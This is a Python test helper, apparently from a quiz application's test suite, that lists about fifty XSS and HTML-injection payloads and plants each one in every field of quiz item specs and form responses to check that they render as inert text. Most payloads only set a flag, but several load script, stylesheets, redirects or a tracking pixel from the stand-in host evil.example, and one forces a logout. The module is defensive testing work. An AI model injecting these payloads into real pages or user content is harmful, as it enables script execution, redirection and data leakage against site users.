"""Texts that would run, load or pretend something if they were not shown as mere text."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from quizapp.grading.base import opaque_id

PAYLOADS = (
    "<script>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>window.ran=1//",
    "<<script>script>window.ran=1<</script>/script>",
    '"><script>window.ran=1</script>',
    "'><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</textarea><script>window.ran=1</script>",
    "</select><img src=x onerror=window.ran=1>",
    "</style><script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=x onerror='window.ran=1'>",
    '<IMG SRC=x OnErRoR="window.ran=1">',
    "<img/src=x/onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data=javascript:window.ran=1></object>",
    "<embed src=javascript:window.ran=1>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<a href=javascript:window.ran=1>x</a>",
    "[x](javascript:window.ran=1)",
    "[x](JaVaScRiPt:window.ran=1)",
    "[x](javascript&colon;window.ran=1)",
    "[x](data:text/html,<script>window.ran=1</script>)",
    "[x](vbscript:x)",
    "![x](x onerror=window.ran=1)",
    "![x](https://evil.example/pixel.png)",
    '[x](https://evil.example "onmouseover=window.ran=1 x=")',
    "<https://evil.example/onerror=window.ran=1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go on</button></form>",
    "<div hx-get=/account/logout/ hx-trigger=load>x</div>",
    "<div data-key=Enter onclick=window.ran=1>x</div>",
    "{{ request.user }}{% csrf_token %}{% include 'base.html' %}",
    "`<img src=x onerror=window.ran=1>`",
    "```html\n<script>window.ran=1</script>\n```",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "\u202e<script>window.ran=1</script>\u2028x",
)


def joined(texts: Iterable[str]) -> str:
    """Many in one text, each in a paragraph of its own."""
    return "\n\n".join(texts)


def spec_of(kind: str, text: str) -> dict[str, Any]:
    """A spec of the kind in which every text that an author writes holds the hostile one."""
    line = " ".join(text.split())
    options = [
        {"text": f"{number} {text}", "feedback": f"{number} {text}", "correct": not number}
        for number in range(3)
    ]
    pairs = [
        {"left": f"{number} {text}", "right": f"{number} {text}", "feedback": text}
        for number in range(2)
    ]
    blank = {"accept": [line], "choices": [line, f"no {line}"], "feedback": text}
    plain = line.replace("{{", "{").replace("}}", "}")
    specs = {
        "flashcard": {"back": text},
        "single_choice": {"options": options},
        "multiple_choice": {"options": options},
        "short_answer": {"accept": [line], "wrong": [{"text": f"no {line}", "feedback": text}]},
        "ordering": {"steps": [f"{number} {text}" for number in range(3)]},
        "matching": {"pairs": pairs, "distractors": [f"no {text}"]},
        "cloze": {"text": f"{plain} {{{{a}}}}", "blanks": {"a": blank}},
        "manifest": {
            "starter": f"# {line}\n",
            "solution": f"# {line}\nkind: Pod\n",
            "checks": [{"path": "kind", "equals": line, "hint": text}],
            "wrong": [{"manifest": f"# {line}\nkind: Job\n", "message": text, "fails": ["kind"]}],
        },
    }
    return specs[kind]


def wrong_response(kind: str, text: str) -> dict[str, Any]:
    """A wrong response to it, as a form sends it; in typed ones with the hostile text, too."""
    line = " ".join(text.split())
    chosen = {"option": [opaque_id(f"1 {text}")]}
    responses: dict[str, dict[str, Any]] = {
        "flashcard": {"recalled": "1"},
        "single_choice": chosen,
        "multiple_choice": chosen,
        "short_answer": {"text": f"no {line}"},
        "ordering": {f"position-{opaque_id(f'{n} {text}')}": str(3 - n) for n in range(3)},
        "matching": {
            f"match-{opaque_id(f'{n} {text}')}": opaque_id(f"{1 - n} {text}") for n in range(2)
        },
        "cloze": {"blank-1": f"no {line}"},
        "manifest": {"manifest": f"# {line}\nkind: Job\n"},
    }
    return responses[kind]
